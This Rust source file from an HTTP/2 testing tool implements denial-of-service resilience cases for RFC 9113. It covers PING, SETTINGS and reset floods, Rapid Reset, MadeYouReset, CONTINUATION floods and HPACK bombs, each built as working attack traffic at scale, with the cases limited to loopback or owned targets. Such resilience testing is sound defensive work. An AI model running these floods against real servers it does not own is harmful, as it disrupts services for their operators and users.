//! RFC 9113 §10.5: denial-of-service resilience, one case per attack class of the DoS
//! catalogue (`/work/shared/dos-catalogue.md`), each sent as the attack is really run.
//!
//! Each case is an [`Attack`] (units as octets, written back to back, read beside or never)
//! plus [`Expectation::Resilience`]; `h2probe_harness::attack` runs it at N and 4N with the
//! server's CPU and RSS sampled and canaries beside, and `h2probe_harness::harm` judges the
//! harm once: mitigated, absorbed or vulnerable. The group is tagged `flood`: it runs only
//! when selected (`h2probe stress`, or `conform … flood`), and only against loopback unless
//! the user owns the target. Bounds: each case's N, `--max-frames`, `--max-seconds` and
//! `h2probe_harness::attack::MAX_RUN_OCTETS` per run.

use crate::common::*;
use h2probe_codec::frame::{Frame, PREFACE};
use h2probe_codec::hpack::Representation as R;
use h2probe_harness::attack::{stream_of, Answers, Attack, Handshake, Pace, ReadMode, Template};
use h2probe_harness::case::{Case, Ctx, Script};
use h2probe_harness::conn::Outgoing;
use h2probe_harness::expectation::Expectation;
use std::time::Duration;

const S: &str = "RFC 9113 §10.5";
const TAGS: &[&str] = &["flood"];
const LIMITS: &str = "An endpoint that doesn't monitor use of these features exposes itself to a risk of denial of service. Implementations SHOULD track the use of these features and set limits on their use. An endpoint MAY treat activity that is suspicious as a connection error (Section 5.4.1) of type ENHANCE_YOUR_CALM.";
const BLOCKS: &str = "A large field block (Section 4.3) can cause an implementation to commit a large amount of state. … Implementations SHOULD track the use of these features and set limits on their use. An endpoint MAY treat activity that is suspicious as a connection error (Section 5.4.1) of type ENHANCE_YOUR_CALM.";

/// Streams a set-up opens and holds (responses held by a zero window): RFC 9113 §5.1.2
/// recommends servers allow at least 100.
const HELD: u32 = 100;

fn attack(a: Attack) -> Result<Script, String> {
    Ok(Script::steps(vec![Step::Attack(a)], Expectation::Resilience))
}

fn bytes(frames: &[Frame]) -> Vec<u8> {
    let mut out = Vec::new();
    for f in frames {
        f.encode(&mut out);
    }
    out
}

fn outs(frames: Vec<Frame>) -> Vec<Outgoing> {
    frames.into_iter().map(Outgoing::from).collect()
}

/// A unit that is the same frames every time.
fn repeat(desc: &str, noun: &'static str, size: u64, frames: &[Frame]) -> Attack {
    let t = bytes(frames);
    let n = frames.len() as u64;
    Attack::new(desc, noun, size, n, move |_, out| out.extend_from_slice(&t))
}

/// A unit that is `frames` on new stream `first + 2i`.
fn per_stream(desc: &str, noun: &'static str, size: u64, first: u32, frames: &[Outgoing]) -> Attack {
    let t = Template::new(frames);
    let n = frames.len() as u64;
    Attack::new(desc, noun, size, n, move |i, out| t.emit(stream_of(first, i), out))
}

/// GETs on streams 1, 3, … (`n` of them), complete, for a set-up that holds them.
fn held_requests(ctx: &Ctx, n: u32) -> Vec<u8> {
    let t = Template::new(&outs(vec![ctx.get(1).build()]));
    let mut out = Vec::new();
    for i in 0..n {
        t.emit(1 + 2 * i, &mut out);
    }
    out
}

fn hold_windows() -> Vec<(SettingId, u32)> {
    vec![(SettingId::INITIAL_WINDOW_SIZE, 0)]
}

macro_rules! attack_case {
    ($id:literal, $desc:literal, $req:expr, $script:expr $(,)?) => {
        Case { id: $id, description: $desc, requirement: $req, tags: TAGS, script: $script, ..should(S) }
    };
}

pub(crate) const CASES: &[Case] = &[
    attack_case!(
        "rfc9113/10.5/ping-flood",
        "PING flood (CVE-2019-9512) as run: PINGs back to back while never reading, so the ACKs back up into the server; N = 200 000 (beyond what kernel buffers hold)",
        LIMITS,
        |_| {
            let mut a = Attack::new("PING (never read)", "PINGs", 200_000, 1, |i, out| {
                let mut p = *b"h2pp\0\0\0\0";
                p[4..].copy_from_slice(&(i as u32).to_be_bytes());
                frames::ping(p).build().encode(out)
            });
            a.read = ReadMode::Unread;
            a.answers = Answers::PingAcks;
            attack(a)
        }
    ),
    attack_case!(
        "rfc9113/10.5/settings-flood",
        "SETTINGS flood (CVE-2019-9515) as run: empty SETTINGS back to back while never reading, so the ACKs back up; N = 200 000",
        "The SETTINGS frame can be abused to cause a peer to expend additional processing time. … Implementations SHOULD track the use of these features and set limits on their use.",
        |_| {
            let mut a = repeat("SETTINGS (empty, never read)", "SETTINGS frames", 200_000, &[frames::settings().build()]);
            a.read = ReadMode::Unread;
            a.answers = Answers::SettingsAcks;
            attack(a)
        }
    ),
    attack_case!(
        "rfc9113/10.5/reset-flood",
        "Reset flood (CVE-2019-9514): requests with an uppercase field name on new streams, each provoking a RST_STREAM, while never reading; N = 20 000",
        LIMITS,
        |ctx| {
            let bad = ctx.get(1).field("X-Upper", "1").build();
            let mut a = per_stream("HEADERS (GET, uppercase field name) on a new stream (never read)", "streams", 20_000, 1, &outs(vec![bad]));
            a.read = ReadMode::Unread;
            a.answers = Answers::Resets;
            attack(a)
        }
    ),
    attack_case!(
        "rfc9113/10.5/internal-data-buffering",
        "Internal data buffering (CVE-2019-9517): windows opened to 2^31-1, GETs on new streams in waves of MAX_CONCURRENT_STREAMS 10 ms apart, our TCP receive window kept closed (never read); N = 2 000",
        LIMITS,
        |ctx| {
            let get = outs(vec![ctx.get(1).build()]);
            let mcs = ctx.server.max_concurrent_streams().unwrap_or(100).clamp(1, 1000) as usize;
            let wave = Template::new(&get).len() * mcs;
            let mut a = per_stream("HEADERS (GET) on a new stream, windows wide open (never read)", "requests", 2_000, 1, &get);
            // In waves of SETTINGS_MAX_CONCURRENT_STREAMS, 10 ms apart, as the attack respects
            // the limit: a server that turns each response into queued output at once has
            // closed the wave's streams by the next.
            a.pace = Pace::Chunked { octets: wave, gap: Duration::from_millis(10) };
            a.settings = vec![(SettingId::INITIAL_WINDOW_SIZE, 0x7fff_ffff)];
            a.preamble = bytes(&[frames::window_update(0, 0x7fff_ffff - 65_535)]);
            a.read = ReadMode::Unread;
            attack(a)
        }
    ),
    attack_case!(
        "rfc9113/10.5/data-dribble",
        "Data dribble (CVE-2019-9511): 100 GETs held by zero windows, then WINDOW_UPDATE(1) round the streams so the server sends 1-octet DATA frames; N = 20 000",
        LIMITS,
        |ctx| {
            let mut a = Attack::new("WINDOW_UPDATE(increment 1) on one of 100 held streams", "WINDOW_UPDATEs", 20_000, 1, |i, out| {
                frames::window_update(1 + 2 * (i % u64::from(HELD)) as u32, 1).encode(out)
            });
            a.settings = hold_windows();
            a.preamble = held_requests(ctx, HELD);
            a.preamble.extend(bytes(&[frames::window_update(0, 1 << 30)]));
            attack(a)
        }
    ),
    attack_case!(
        "rfc9113/10.5/zero-length-headers",
        "0-length header fields (CVE-2019-9516): GETs each with 64 fields of empty name and value, indexed into the table; N = 5 000",
        BLOCKS,
        |ctx| {
            let mut block = ctx.get(1).encoded_block();
            for _ in 0..64 {
                R::literal("", "").incremental().encode(&mut block);
            }
            let h = frames::headers(1).block(block).end_stream().build();
            let mut a = per_stream("HEADERS (GET + 64 empty fields) on a new stream", "requests", 5_000, 1, &outs(vec![h]));
            a.answers = Answers::Resets;
            attack(a)
        }
    ),
    attack_case!(
        "rfc9113/10.5/empty-data-flood",
        "Empty frames (CVE-2019-9518): a POST declaring a body, then DATA frames of length 0 without END_STREAM (response held by a zero window); N = 50 000",
        "Large numbers of small or empty frames can be abused to cause a peer to expend time processing frame headers. … Implementations SHOULD track the use of these features and set limits on their use.",
        |ctx| {
            let mut a = repeat("DATA (length 0) on stream 1", "DATA frames", 50_000, &[frames::data(1, vec![]).build()]);
            a.settings = hold_windows();
            a.preamble = bytes(&[ctx.post(1).field("content-length", "100000").build()]);
            a.watch_status = true;
            attack(a)
        }
    ),
    attack_case!(
        "rfc9113/10.5/empty-continuation-flood",
        "Empty frames (CVE-2019-9518): HEADERS without END_HEADERS, then CONTINUATION frames of length 0 without end; N = 50 000",
        BLOCKS,
        |ctx| {
            let mut a = repeat("CONTINUATION (length 0) on stream 1", "CONTINUATIONs", 50_000, &[frames::continuation(1, vec![]).build()]);
            a.preamble = bytes(&[ctx.get(1).no_end_headers().build()]);
            a.watch_status = true;
            attack(a)
        }
    ),
    attack_case!(
        "rfc9113/10.5/priority-churn",
        "Priority churn (CVE-2019-9513): 100 held streams, then PRIORITY frames moving them exclusively under one another and PRIORITY_UPDATEs; N = 50 000",
        LIMITS,
        |ctx| {
            let mut a = Attack::new("PRIORITY (exclusive, moving a held stream) + PRIORITY_UPDATE", "reprioritisations", 50_000, 2, |i, out| {
                let s = 1 + 2 * (i % u64::from(HELD)) as u32;
                let d = 1 + 2 * ((i * 37 + 11) % u64::from(HELD)) as u32;
                let d = if d == s { 0 } else { d };
                frames::priority(s, d, (i % 256) as u8).exclusive().build().encode(out);
                frames::priority_update(s, if i % 2 == 0 { "u=0" } else { "u=7, i" }).encode(out);
            });
            a.settings = hold_windows();
            a.preamble = held_requests(ctx, HELD);
            attack(a)
        }
    ),
    attack_case!(
        "rfc9113/10.5/rapid-reset",
        "Rapid Reset (CVE-2023-44487) as run in 2023: HEADERS (GET) + RST_STREAM(CANCEL) pairs on new streams, written back to back in large batches, never waiting; N = 50 000",
        LIMITS,
        |ctx| {
            let pair = outs(vec![ctx.get(1).build(), frames::rst_stream(1, E::CANCEL)]);
            let mut a = per_stream("HEADERS (GET) + RST_STREAM(CANCEL) on a new stream", "streams", 50_000, 1, &pair);
            a.answers = Answers::Streams;
            attack(a)
        }
    ),
    attack_case!(
        "rfc9113/10.5/rapid-reset-concurrent",
        "Rapid Reset (CVE-2023-44487), second form: GETs up to SETTINGS_MAX_CONCURRENT_STREAMS, then RST_STREAM(CANCEL) on all of them, repeated without waiting; N = 50 000",
        LIMITS,
        |ctx| {
            let mcs = u64::from(ctx.server.max_concurrent_streams().unwrap_or(100).clamp(1, 1000));
            let get = Template::new(&outs(vec![ctx.get(1).build()]));
            let rst = Template::new(&outs(vec![frames::rst_stream(1, E::CANCEL)]));
            let mut a = Attack::new(format!("HEADERS (GET) on {mcs} new streams, then RST_STREAM(CANCEL) on each"), "streams", 50_000, 2, move |i, out| {
                get.emit(stream_of(1, i), out);
                if i % mcs == mcs - 1 {
                    for j in i + 1 - mcs..=i {
                        rst.emit(stream_of(1, j), out);
                    }
                }
            });
            a.answers = Answers::Streams;
            attack(a)
        }
    ),
    attack_case!(
        "rfc9113/10.5/madeyoureset-window-update-0",
        "MadeYouReset (CVE-2025-8671): a complete GET held by a zero window, then WINDOW_UPDATE(increment 0) on it so the server resets it; new streams without waiting; N = 20 000",
        LIMITS,
        |ctx| made_you_reset(ctx, "WINDOW_UPDATE(increment 0)", vec![Outgoing::from(frames::raw(FrameType::WINDOW_UPDATE).stream(1).payload([0, 0, 0, 0]))]),
    ),
    attack_case!(
        "rfc9113/10.5/madeyoureset-window-overflow",
        "MadeYouReset (CVE-2025-8671): a held GET, then two WINDOW_UPDATE(2^31-1) on it, overflowing its window (a stream error); N = 20 000",
        LIMITS,
        |ctx| made_you_reset(ctx, "2 × WINDOW_UPDATE(2^31-1)", outs(vec![frames::window_update(1, 0x7fff_ffff), frames::window_update(1, 0x7fff_ffff)])),
    ),
    attack_case!(
        "rfc9113/10.5/madeyoureset-priority-self",
        "MadeYouReset (CVE-2025-8671): a held GET, then a PRIORITY making the stream depend on itself (a stream error); N = 20 000",
        LIMITS,
        |ctx| {
            // The dependency is in the payload, so each unit is built for its own stream.
            let get = Template::new(&outs(vec![ctx.get(1).build()]));
            let mut a = Attack::new("HEADERS (GET, END_STREAM) + PRIORITY depending on itself on a new stream", "streams", 20_000, 2, move |i, out| {
                let s = stream_of(1, i);
                get.emit(s, out);
                frames::priority(s, s, 16).build().encode(out);
            });
            made_you_reset_bounds(ctx, &mut a);
            attack(a)
        },
    ),
    attack_case!(
        "rfc9113/10.5/madeyoureset-data-after-end",
        "MadeYouReset (CVE-2025-8671): a held GET with END_STREAM, then DATA on the half-closed stream (STREAM_CLOSED); N = 20 000",
        LIMITS,
        |ctx| made_you_reset(ctx, "DATA after END_STREAM", outs(vec![frames::data(1, b"x".to_vec()).build()])),
    ),
    attack_case!(
        "rfc9113/10.5/madeyoureset-headers-after-end",
        "MadeYouReset (CVE-2025-8671): a held GET with END_STREAM, then a second HEADERS with END_STREAM on it (STREAM_CLOSED); N = 20 000",
        LIMITS,
        |ctx| {
            let trailer = frames::headers(1).field("x-h2probe", "1").end_stream().build();
            made_you_reset(ctx, "HEADERS after END_STREAM", outs(vec![trailer]))
        },
    ),
    attack_case!(
        "rfc9113/10.5/continuation-flood",
        "CONTINUATION flood (CVE-2024-27316 and kin): HEADERS without END_HEADERS, then small CONTINUATION frames of one 24-octet field each, never ended; N = 20 000",
        BLOCKS,
        |ctx| {
            let mut field = Vec::new();
            R::literal("x-h2probe-flood", "aaaaaaaa").encode(&mut field);
            let mut a = repeat("CONTINUATION (one field, no END_HEADERS) on stream 1", "CONTINUATIONs", 20_000, &[frames::continuation(1, field).build()]);
            a.preamble = bytes(&[ctx.get(1).no_end_headers().build()]);
            a.watch_status = true;
            attack(a)
        }
    ),
    attack_case!(
        "rfc9113/10.5/continuation-endless-field",
        "CONTINUATION flood, one endless field: a literal whose value declares 256 MiB, continued in 1 KiB CONTINUATION frames, never ended; N = 4 000",
        BLOCKS,
        |ctx| {
            let mut start = ctx.get(1).encoded_block();
            // Literal without indexing, new name `x-h2probe-endless`, value length 2^28.
            R::raw(vec![0x00]).encode(&mut start);
            h2probe_codec::hpack::StringLit::plain("x-h2probe-endless").encode(&mut start);
            let mut len = Vec::new();
            h2probe_codec::hpack::integer::encode(1 << 28, 7, 0x00, &mut len);
            start.extend(len);
            let mut a = repeat("CONTINUATION (1 KiB of one field's value) on stream 1", "CONTINUATIONs", 4_000, &[frames::continuation(1, vec![b'a'; 1024]).build()]);
            a.preamble = bytes(&[frames::headers(1).block(start).end_stream().no_end_headers().build()]);
            a.decoded_per_unit = None;
            a.watch_status = true;
            attack(a)
        }
    ),
    attack_case!(
        "rfc9113/10.5/continuation-byte-at-a-time",
        "CONTINUATION flood, byte at a time: HEADERS without END_HEADERS, then CONTINUATION frames of one octet each, one frame per write; N = 10 000",
        BLOCKS,
        |ctx| {
            let mut field = Vec::new();
            R::literal("x-h2probe-bytes", "b".repeat(10_000)).encode(&mut field);
            let field = std::sync::Arc::new(field);
            let mut a = Attack::new("CONTINUATION (one octet of a field, one per write) on stream 1", "CONTINUATIONs", 10_000, 1, move |i, out| {
                let b = field.get(i as usize).copied().unwrap_or(b'b');
                frames::continuation(1, vec![b]).build().encode(out)
            });
            a.pace = Pace::Chunked { octets: 10, gap: Duration::ZERO };
            a.preamble = bytes(&[ctx.get(1).no_end_headers().build()]);
            a.watch_status = true;
            attack(a)
        }
    ),
    Case { id: "rfc9113/10.5/hpack-bomb", description: "HPACK bomb (CVE-2016-6581): one request inserts a table-sized entry, then requests reference it 4 000 times each (16 MiB decoded per 4 KiB request), responses held by a zero window; N = 4", requirement: BLOCKS, tags: &["flood", "hpack"], script: |ctx| hpack_bomb(ctx, false), ..should(S) },
    Case { id: "rfc9113/10.5/http2-bomb", description: "HTTP/2 bomb (CVE-2026-49975): one request inserts the tiny entry `a:`, then requests reference it 4 000 times each (4 000 fields), responses held by a zero window; N = 100", requirement: BLOCKS, tags: &["flood", "hpack"], script: |ctx| hpack_bomb(ctx, true), ..should(S) },
    attack_case!(
        "rfc9113/10.5/unacknowledged-settings",
        "Settings never acknowledged: the server's SETTINGS (its MAX_CONCURRENT_STREAMS) are never ACKed, and GETs held by zero windows open far beyond them; N = 1 000",
        LIMITS,
        |ctx| {
            let mut a = per_stream("HEADERS (GET) on a new stream, the server's SETTINGS unacknowledged", "streams", 1_000, 1, &outs(vec![ctx.get(1).build()]));
            a.handshake = Handshake::NoAck;
            a.settings = hold_windows();
            a.hold = Duration::from_millis(1000);
            attack(a)
        }
    ),
    attack_case!(
        "rfc9113/10.5/slow-preface",
        "Slow preface: connections that send the preface and SETTINGS one octet every 100 ms (3.3 s each), all at once; N = 64 connections",
        LIMITS,
        |_| {
            let mut hello = PREFACE.to_vec();
            frames::settings().build().encode(&mut hello);
            let mut a = Attack::new("a connection sending the preface one octet per 100 ms", "connections", 64, 1, move |_, out| out.extend_from_slice(&hello));
            a.handshake = Handshake::None;
            a.per_connection = 1;
            a.pace = Pace::Chunked { octets: 1, gap: Duration::from_millis(100) };
            a.hold = Duration::from_millis(500);
            attack(a)
        }
    ),
    attack_case!(
        "rfc9113/10.5/zero-window-hold",
        "Streams held at the limit: connections of 100 GETs each whose responses a zero window holds, kept open; N = 800 streams (8 connections)",
        LIMITS,
        |ctx| {
            let mut a = per_stream("HEADERS (GET) on a new stream, held by a zero window", "streams", 800, 1, &outs(vec![ctx.get(1).build()]));
            a.settings = hold_windows();
            a.per_connection = u64::from(HELD);
            a.hold = Duration::from_millis(1500);
            attack(a)
        }
    ),
];

/// MadeYouReset: a complete GET on a new stream (its response held by a zero window, so the
/// stream is still open on the server), then `provoke` on it, which makes the server reset a
/// stream whose request it has already started.
fn made_you_reset(ctx: &Ctx, what: &str, provoke: Vec<Outgoing>) -> Result<Script, String> {
    let mut frames_ = vec![Outgoing::from(ctx.get(1).build())];
    frames_.extend(provoke);
    let mut a = per_stream(&format!("HEADERS (GET, END_STREAM) + {what} on a new stream"), "streams", 20_000, 1, &frames_);
    made_you_reset_bounds(ctx, &mut a);
    attack(a)
}

/// Responses held by zero windows, so the stream is open when the frame arrives; as many
/// streams as the server counts as open, less one: the attack goes on as fast as the server
/// resets them, never past its limit.
fn made_you_reset_bounds(ctx: &Ctx, a: &mut Attack) {
    a.in_flight = Some(u64::from(ctx.server.max_concurrent_streams().unwrap_or(100).clamp(2, 1000) - 1));
    a.settings = hold_windows();
    a.answers = Answers::Resets;
}

/// Name of the classic bomb's table entry.
const BOMB_NAME: &str = "x-h2probe-bomb";
/// References per bomb request: 4 000 one-octet fields, within one 16 KiB frame.
const BOMB_REFS: usize = 4_000;

fn hpack_bomb(ctx: &Ctx, tiny: bool) -> Result<Script, String> {
    let table = ctx.server.get(SettingId::HEADER_TABLE_SIZE).unwrap_or(4096).min(4096) as usize;
    let (name, entry) = if tiny { ("a", 33) } else { (BOMB_NAME, table) };
    let overhead = 32 + name.len();
    if entry < overhead {
        return Err(format!("the server's HPACK table is {table} octets, too small for a bomb"));
    }
    let mut insert = ctx.get(1).encoded_block();
    R::literal(name, vec![b'a'; entry - overhead]).incremental().encode(&mut insert);
    let mut bomb = ctx.get(3).encoded_block();
    // Index 62 is the newest dynamic-table entry; `1xxxxxxx` with 62 is 0xbe, one octet.
    bomb.resize(bomb.len() + BOMB_REFS, 0x80 | 62);
    let t = Template::new(&outs(frames::headers(3).block(bomb).end_stream().build_split(ctx.server.max_frame_size() as usize)));
    let n = t.len().div_ceil(16_384) as u64;
    let (desc, size) = if tiny {
        (format!("HEADERS on a new stream: {BOMB_REFS} references to the 33-octet entry `a:`"), 100)
    } else {
        (format!("HEADERS on a new stream: {BOMB_REFS} references to one {entry}-octet entry"), 4)
    };
    let mut a = Attack::new(desc, "bomb requests", size, n.max(1), move |i, out| t.emit(stream_of(3, i), out));
    a.settings = hold_windows();
    a.preamble = bytes(&[frames::headers(1).block(insert).end_stream().build()]);
    a.decoded_per_unit = Some((BOMB_REFS * entry) as u64);
    a.watch_status = true;
    a.answers = Answers::Resets;
    a.hold = Duration::from_millis(800);
    attack(a)
}
